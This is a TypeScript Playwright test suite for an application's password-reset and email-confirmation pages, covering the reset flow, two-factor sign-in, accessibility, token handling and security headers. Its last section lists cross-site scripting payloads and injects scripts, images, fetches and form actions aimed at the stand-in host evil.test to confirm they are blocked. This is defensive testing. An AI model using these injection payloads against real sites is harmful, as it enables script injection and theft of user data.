import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import axe from 'axe-core';
import type { Page } from 'playwright-core';
import { openChromium, type Chromium, type Visit, type Visitor } from '../harness/browser.js';
import { codeOf, refresh, signIn, whoAmI } from '../harness/calls.js';
import { challengeOf, finish, setUpFactor } from '../harness/factors.js';
import { forgot, reset } from '../harness/links.js';
import { join } from '../harness/people.js';
import { openScene, type Scene } from '../harness/scene.js';
import { startPublicApp, startSite, type Site } from '../harness/site.js';
import { startMailServer, type MailServer } from '../harness/smtp.js';
import { until } from '../harness/until.js';

let app: Awaited<ReturnType<typeof startPublicApp>>;
let mail: MailServer;
let frontEnd: Site;
let scene: Scene;
let chromium: Chromium;
beforeAll(async () => {
  chromium = await openChromium();
  mail = await startMailServer();
  frontEnd = await startSite('<!doctype html><html lang="en"><title>The application</title><h1>Sign in</h1>');
  app = await startPublicApp({ LIMITS_SCALE: '100', SMTP_URL: mail.url, FRONTEND_URL: frontEnd.url });
  scene = await openScene(app);
});
afterAll(async () => {
  await chromium.close();
  await scene.close();
  await app.close();
  await Promise.all([mail.close(), frontEnd.close()]);
});

const GOOD = 'eleven-quiet-Rivers-7';
const visit = (work: (visitor: Visitor) => Promise<void>, how: Partial<Visit> = {}) =>
  chromium.visit({ sites: [app.publicUrl], ...how }, work);
const at = (path: string, token?: string) =>
  `${app.publicUrl}/${path}${token === undefined ? '' : `?token=${encodeURIComponent(token)}`}`;
/** A link such as a mail brings, without the mail. */
async function linkOf(purpose: 'reset-password' | 'verify-email') {
  const person = await scene.seat(['USER']);
  const token = await scene.link(purpose, person.id);
  return { ...person, token, link: at(purpose, token) };
}
/** The link of this kind that came to an address by mail. */
const mailed = (address: string, path: string) =>
  until(`a link to ${path} has come to ${address}`, () =>
    mail.mails
      .filter(({ to }) => to === address)
      .map(({ text }) => new RegExp(`http://\\S+/${path}\\?token=\\S+`).exec(text)?.[0])
      .find((link) => link !== undefined),
  );
const field = (page: Page) => page.getByLabel('New password');
const heading = (page: Page) => page.getByRole('heading').innerText();
/** Types a password and sends it off by the keyboard. */
async function choose(page: Page, password: string): Promise<string> {
  await field(page).fill(password);
  await Promise.all([page.waitForEvent('load'), field(page).press('Enter')]);
  return heading(page);
}

describe('somebody who has forgotten their password', () => {
  it('opens the link in the mail, types a new one, and signs in with it and the second factor', async () => {
    const ana = await join(app);
    const factor = await setUpFactor(app, ana);
    await forgot(app, ana.email);
    const link = await mailed(ana.email, 'reset-password');
    await visit(async ({ open }) => {
      const page = await open(link);
      expect(await heading(page)).toBe('Choose a password');
      expect(await choose(page, GOOD)).toBe('Your password is set');
    });
    expect(codeOf(await whoAmI(app, ana.access))).toBe('UNAUTHENTICATED');
    expect((await refresh(app, ana.refresh)).code).toBe('REFRESH_TOKEN_INVALID');
    expect(codeOf(await signIn(app, ana.username, ana.password))).toBe('INVALID_CREDENTIALS');
    const challenge = await challengeOf(app, { ...ana, password: GOOD });
    const entered = await finish(app, challenge, factor.app.code(1));
    expect(entered.data['verifyMfa'].session).toMatchObject({ aal: 2, amr: ['pwd', 'otp', 'mfa'] });
  });

  it('is told before typing what is asked for, and after what was wrong, by the same page and link', async () => {
    const { link, username } = await linkOf('reset-password');
    await visit(async ({ open }) => {
      const page = await open(link);
      expect(await page.getByText('At least 8 characters.').isVisible()).toBe(true);
      for (const [weak, fault] of [
        ['short', /at least 8 characters/],
        ['password1', /./],
        [username, /./],
      ] as const) {
        expect(await choose(page, weak)).toBe('Error: choose another password');
        expect(await page.getByRole('alert').innerText()).toMatch(fault);
        expect(await field(page).inputValue()).toBe('');
      }
      expect(await choose(page, GOOD)).toBe('Your password is set');
    });
    expect(codeOf(await signIn(app, username, GOOD))).toBeUndefined();
  });

  it('can look at what they type, which is hidden again when it is sent', async () => {
    const { link } = await linkOf('reset-password');
    await visit(async ({ open }) => {
      const page = await open(link);
      const type = () => field(page).getAttribute('type');
      await field(page).fill(GOOD);
      expect(await type()).toBe('password');
      await page.getByRole('button', { name: 'Show password' }).click();
      expect(await type()).toBe('text');
      await page.getByRole('button', { name: 'Hide password' }).click();
      expect(await type()).toBe('password');
      await page.getByRole('button', { name: 'Show password' }).click();
      const typeWhenSent = page.evaluate(
        "new Promise((done) => document.forms[0].addEventListener('submit', () => done(document.querySelector('#new-password').type)))",
      );
      await page.getByRole('button', { name: 'Set password' }).click();
      expect(await typeWhenSent).toBe('password');
      await page.getByText('Sign in with the new password').waitFor();
    });
  });

  it('gets on by the keyboard alone, and clicks twice without harm', async () => {
    const { link } = await linkOf('reset-password');
    await visit(async ({ open }) => {
      const page = await open(link);
      const focused = () =>
        page.evaluate<string>('document.activeElement.textContent || document.activeElement.id');
      // Chromium puts the focus there with the first picture of the page, which may come after its load.
      await page.locator('#new-password:focus').waitFor();
      const stops = [await focused()];
      await page.keyboard.type(GOOD);
      for (const _ of [1, 2]) {
        await page.keyboard.press('Tab');
        stops.push(await focused());
      }
      expect(stops).toEqual(['new-password', 'Show password', 'Set password']);
      await page.getByRole('button', { name: 'Set password' }).dblclick();
      await page.getByRole('heading', { name: 'Your password is set' }).waitFor();
    });
  });

  it('is led on to the application, which does not hear where they come from', async () => {
    const { link } = await linkOf('reset-password');
    const { host } = new URL(frontEnd.url);
    await visit(
      async ({ open }) => {
        const page = await open(link);
        await choose(page, GOOD);
        await page.getByRole('link', { name: `Go to ${host}` }).click();
        await page.getByRole('heading', { name: 'Sign in' }).waitFor();
      },
      { sites: [app.publicUrl, frontEnd.url] },
    );
    const [asked] = frontEnd.requests.filter(({ path }) => path === '/');
    expect([asked?.headers.referer, asked?.headers.cookie]).toEqual([undefined, undefined]);
  });
});

describe('somebody who opens the link to confirm their address', () => {
  it('confirms it with a button, once', async () => {
    const ana = await join(app);
    const link = await mailed(ana.email, 'verify-email');
    const isVerified = async () =>
      (await app.graphql('{ me { isEmailVerified } }', {}, { bearer: ana.access })).data['me']
        .isEmailVerified;
    await visit(async ({ open }) => {
      const page = await open(link);
      expect(await isVerified()).toBe(false);
      await page.getByRole('button', { name: 'Confirm' }).dblclick();
      await page.getByRole('heading', { name: 'Thank you' }).waitFor();
      expect(await isVerified()).toBe(true);
      const again = await open(link);
      await again.getByRole('button', { name: 'Confirm' }).click();
      await again.getByRole('heading', { name: 'This link is not valid any more' }).waitFor();
    });
  });
});

describe('the token of a link', () => {
  it.each(['reset-password', 'verify-email', 'confirm-email-change', 'undo-email-change'])(
    'is gone from the address of %s as soon as the page is there, and is sent to nobody',
    async (path) => {
      const token = randomBytes(32).toString('base64url');
      const link = at(path, token);
      await visit(async ({ context, open }) => {
        const page = await open(link);
        expect(page.url()).toBe(at(path));
        expect(await page.evaluate('history.length')).toBe(2);
        expect(await context.cookies()).toEqual([]);
        const kept = await page.evaluate(
          'JSON.stringify([{ ...localStorage }, { ...sessionStorage }, history.state])',
        );
        expect(kept).toBe('[{},{},null]');
        const [sent] = await Promise.all([
          page.waitForRequest((request) => request.method() === 'POST'),
          page.waitForEvent('load'),
          page.evaluate(
            'document.querySelectorAll("[required]").forEach((i) => (i.value = "short")), document.forms[0].requestSubmit()',
          ),
        ]);
        expect(sent.url()).toBe(at(path));
        expect(sent.postData()).toContain(token);
        expect((await sent.allHeaders())['referer']).toBeUndefined();
        await page.goto(at(path));
        expect(await page.getByText('Open this page by the link in your mail').isVisible()).toBe(true);
      });
    },
  );
});

describe('without JavaScript', () => {
  const PLAIN = { javaScriptEnabled: false };

  it('a password is set, a weak one is explained, and a spent link says so', async () => {
    const { link, username } = await linkOf('reset-password');
    await visit(async ({ open }) => {
      const page = await open(link);
      expect(await page.getByRole('button').allInnerTexts()).toEqual(['Set password']);
      expect(await choose(page, 'short')).toBe('Error: choose another password');
      expect(await page.getByRole('alert').innerText()).toMatch(/at least 8 characters/);
      expect(page.url()).toBe(at('reset-password'));
      expect(await choose(page, GOOD)).toBe('Your password is set');
      const again = await open(link);
      expect(await choose(again, GOOD)).toBe('This link is not valid any more');
    }, PLAIN);
    expect(codeOf(await signIn(app, username, GOOD))).toBeUndefined();
  });

  it('an address is confirmed', async () => {
    const { link } = await linkOf('verify-email');
    await visit(async ({ open }) => {
      const page = await open(link);
      await page.getByRole('button', { name: 'Confirm' }).click();
      await page.getByRole('heading', { name: 'Thank you' }).waitFor();
      expect(page.url()).toBe(at('verify-email'));
    }, PLAIN);
  });
});

describe('everybody can use the pages', () => {
  const LOOKS = [320, 1280].flatMap((width) =>
    (['light', 'dark'] as const).map((colorScheme) => ({ width, colorScheme })),
  );

  /** Every page there is, by the name it shows. */
  const PAGES: [title: string, open: (visitor: Visitor) => Promise<Page>][] = [
    ['Choose a password', async ({ open }) => open((await linkOf('reset-password')).link)],
    ['Choose a password', ({ open }) => open(at('reset-password'))],
    ['Keep your email address', ({ open }) => open(at('undo-email-change', 'A'.repeat(43)))],
    ['Confirm your email address', async ({ open }) => open((await linkOf('verify-email')).link)],
    [
      'Error: choose another password',
      async ({ open }) => {
        const page = await open((await linkOf('reset-password')).link);
        await choose(page, 'short');
        return page;
      },
    ],
    [
      'Your password is set',
      async ({ open }) => {
        const page = await open((await linkOf('reset-password')).link);
        await choose(page, GOOD);
        return page;
      },
    ],
    [
      'This link is not valid any more',
      async ({ open }) => {
        const page = await open(at('verify-email', 'A'.repeat(43)));
        await page.getByRole('button').click();
        await page.getByRole('alert').waitFor();
        return page;
      },
    ],
  ];

  it.each(PAGES)(
    '%s: nothing is in anybody’s way, small or large, by day or by night',
    async (title, reach) => {
      await visit(
        async (visitor) => {
          const page = await reach(visitor);
          expect([await page.title(), await heading(page)]).toEqual([title, title]);
          expect(await page.locator('html').getAttribute('lang')).toBe('en');
          expect(Buffer.byteLength(await page.content())).toBeLessThan(10 * 1024);
          await page.evaluate(axe.source);
          for (const { width, colorScheme } of LOOKS) {
            await page.setViewportSize({ width, height: 640 });
            await page.emulateMedia({ colorScheme });
            const found = await page.evaluate<{ violations: { id: string; nodes: { html: string }[] }[] }>(
              'axe.run()',
            );
            const faults = found.violations.map(
              ({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html).join(', ')}`,
            );
            const overflow = await page.evaluate('document.documentElement.scrollWidth - innerWidth');
            expect([width, colorScheme, faults, overflow]).toEqual([width, colorScheme, [], 0]);
          }
        },
        { bypassCSP: true },
      );
    },
  );
});

describe('whatever somebody puts into a link or a form', () => {
  const EVIL = [
    '"><script>window.hacked=1</script>',
    '\'"><img src=x onerror=window.hacked=1>',
    '"autofocus onfocus=window.hacked=1 x="',
    '</title></style><svg onload=window.hacked=1>',
    'javascript:window.hacked=1//${window.hacked=1}{{window.hacked=1}}',
    '"><form action=http://evil.test><base href=http://evil.test>',
  ];
  const scripts = (page: Page) =>
    page.evaluate(
      '[document.scripts.length, document.images.length, document.querySelectorAll("base, svg, form").length, typeof window.hacked]',
    );

  it.each(EVIL)('%s stays a text', async (evil) => {
    await visit(async ({ open }) => {
      const reflected = encodeURIComponent(evil);
      for (const path of ['reset-password', 'verify-email']) {
        const page = await open(
          `${at(path)}?token=${reflected}&${reflected}=${reflected}&title=${reflected}#${reflected}`,
        );
        expect(await scripts(page)).toEqual([1, 0, 1, 'undefined']);
        expect(await page.locator('[name=token]').inputValue()).toBe(evil);
        if (path === 'verify-email') await page.getByRole('button').click();
        else await choose(page, 'short');
        await page.getByRole('alert').waitFor();
        expect(await page.evaluate('typeof window.hacked')).toBe('undefined');
        if (path === 'verify-email') continue;
        expect(await scripts(page)).toEqual([1, 0, 1, 'undefined']);
        expect(await choose(page, `${evil} and more`)).toBe('This link is not valid any more');
      }
    });
  });

  it('and whatever else got in would neither run, nor load, nor send', async () => {
    const { link } = await linkOf('reset-password');
    await visit(
      async ({ open, complaints }) => {
        const page = await open(link);
        await page.evaluate(`
          const add = (name, set) => document.body.append(Object.assign(document.createElement(name), set));
          add('script', { textContent: 'window.hacked = 1' });
          add('script', { src: 'http://evil.test/a.js' });
          add('style', { textContent: 'body { background: url(http://evil.test/b) }' });
          add('img', { src: 'http://evil.test/c.png' });
          add('iframe', { src: 'http://evil.test/d' });
          add('p', { innerHTML: '<b onclick="window.hacked = 1" style="color: red">x</b>' });
          document.querySelector('b').click();
          fetch('http://evil.test/e').catch(() => undefined);
          document.forms[0].action = 'http://evil.test/f';
          document.querySelector('#new-password').value = 'whatever-it-is';
          document.forms[0].requestSubmit();`);
        const refused = [
          'test/a.js',
          'test/c.png',
          'test/e',
          'form-action',
          'inline script',
          'inline style',
          'inline event handler',
        ];
        await until('all is refused', () =>
          refused.every((what) => complaints.some((text) => text.includes(what) && text.includes('Policy'))),
        );
        expect(await page.evaluate('typeof window.hacked')).toBe('undefined');
        expect(page.url()).toBe(at('reset-password'));
      },
      { mayComplain: true },
    );
  });

  it('and nobody can show a page inside their own', async () => {
    const { link, token } = await linkOf('reset-password');
    const trap = await startSite(`<!doctype html><iframe src="${link}"></iframe>`);
    await visit(
      async ({ open, complaints }) => {
        const page = await open(trap.url);
        await until('the frame is refused', () =>
          complaints.some((text) => text.includes('frame-ancestors')),
        );
        expect(await page.frames()[1]?.locator('form').count()).toBe(0);
      },
      { mayComplain: true, sites: [trap.url, app.publicUrl] },
    );
    await trap.close();
    expect(codeOf(await reset(app, token, GOOD))).toBeUndefined();
  });
});
